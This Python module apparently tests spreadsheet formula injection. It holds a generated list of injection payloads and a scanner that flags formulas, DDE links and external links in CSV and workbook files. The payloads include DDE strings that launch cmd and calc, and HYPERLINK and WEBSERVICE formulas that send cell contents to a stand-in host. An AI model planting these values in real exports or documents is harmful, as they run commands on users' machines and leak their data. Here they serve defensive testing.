"""A hundred texts that a spreadsheet could run, and a look at files that must not let it.

Nothing of what writes the files is used.
"""

import re
import zipfile
from pathlib import Path

_BEGINS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_RUNS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"look")',
    'WEBSERVICE("http://x.example?"&A1)', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "IMPORTXML(\"http://x.example\";\"//a\")", '"a";=1+1', "2-3\n=1+1", "'=1+1'!A1")
_BEFORE = ("\t", "\r", "\n", " ", '"', '""', ";", "x;", "x\t", "x\n", "'", "''", 'x",', "\u00a0",
           "\r\n", "|")
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys((
    *(begin + run for begin in _BEGINS for run in _RUNS),
    *(before + "=1+1" for before in _BEFORE), *(before + "@SUM(A1)" for before in _BEFORE),
    "-5", "+41 22 555", "-", "=", "- a bullet", "=1'+'1", "%0A=1+1", "\\=1+1")))

_COULD_RUN = re.compile(f"(?:^|[;\\t\\n\"])[ \u00a0]*[{re.escape(''.join(_BEGINS))}]")


def formulas_in(path: Path) -> list[str]:
    """What a spreadsheet program would take for a formula, or fetch from elsewhere."""
    if path.suffix == ".csv":
        text = path.read_text("utf-8-sig").replace("\r\n", "\n")
        return [found[0] for found in _COULD_RUN.finditer(text)]
    found = []
    with zipfile.ZipFile(path) as packed:
        for name in packed.namelist():
            xml = packed.read(name).decode("utf-8")
            found += [f"{name}: {tag}" for tag in re.findall(
                r"<f[ >/]|<f:|table:formula|<ddeLink|<externalLink|dde-|xlink:href|Target=\"http",
                re.sub(r">[^<]*<", "><", xml))]
            if "externalLink" in name or "connections" in name or name.endswith(".bin"):
                found.append(name)
    return found
